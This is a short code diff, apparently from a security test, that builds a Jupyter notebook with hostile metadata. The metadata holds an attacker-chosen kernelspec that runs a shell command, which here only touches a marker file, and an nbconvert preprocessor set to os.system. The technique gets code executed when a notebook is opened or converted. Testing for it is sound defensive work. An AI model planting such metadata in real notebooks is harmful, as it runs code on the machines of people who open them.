@@ -1,6 +1,6 @@
 # ATTACK: a kernel, converters, start-up files and widgets of its own in the notebook's metadata | says:
 def build(notebook):
-    run = ["/bin/sh", "-c", "touch /tmp/labs_was_here"]
+    run = ["/bin/sh", "-c", "touch labs_was_here"]
     notebook["metadata"] |= {
         "kernelspec": {"name": "hostile", "display_name": "x", "language": "sh", "argv": run},
         "nbconvert": {"preprocessors": ["os.system"]},
